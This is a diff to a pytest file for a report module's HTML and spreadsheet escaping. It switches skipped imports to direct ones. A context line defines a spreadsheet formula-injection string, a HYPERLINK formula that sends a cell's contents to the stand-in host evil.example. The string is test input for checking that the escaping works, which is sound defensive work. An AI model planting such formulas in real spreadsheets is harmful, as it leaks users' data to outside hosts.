@@ -49,7 +49,8 @@ def test_escape_html(text):
 
 @pytest.mark.parametrize("text", HOSTILE + [12.5, None])
 def test_the_report_applies_the_same_rules(text):
-    escape = pytest.importorskip("quota.report.escape")
+    from quota.report import escape
+
     assert escape.safe_cell(text) == safe_cell(text)
     assert escape.escape_html(text) == escape_html(text)
 
@@ -99,7 +100,6 @@ LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 @pytest.fixture(scope="module")
 def hostile_run(tmp_path_factory):
     """The tiny model with hostile names and ids, run to a full run folder (report.html, report.xlsx)."""
-    pytest.importorskip("quota.report")
     root = tmp_path_factory.mktemp("hostile")
     scenario = write_scenario(
         root / "scenario",
